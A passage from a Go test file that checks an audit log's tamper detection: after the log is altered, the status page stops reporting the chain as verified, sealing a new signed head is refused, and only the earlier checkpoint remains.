			t.Fatalf("%s: chain status %q", who, got)
		}
		if strings.Contains(r.body, "Chain verified") {
			t.Fatalf("%s: the page still says verified", who)
		}
	}
	// The head is not signed over it, and the page says so.
	if _, err := f.store.SealAuditHead(auditCtx, "test"); !errors.Is(err, models.ErrAuditUnverified) {
		t.Fatalf("sealing a tampered log: %v", err)
	}
	if got := norm(c.get("/audit").text(`[data-testid="chain-status"]`)); !strings.Contains(got, bad) || !strings.HasSuffix(got, "No head is signed over it.") {
		t.Fatalf("after a refused seal: %q", got)
	}
	var n int64
	testdb.Must(t, f.store.DB().Table("audit_checkpoints").Count(&n))
	if n != 1 {
		t.Fatalf("%d signed heads, want only the one before the tampering", n)
	}
}
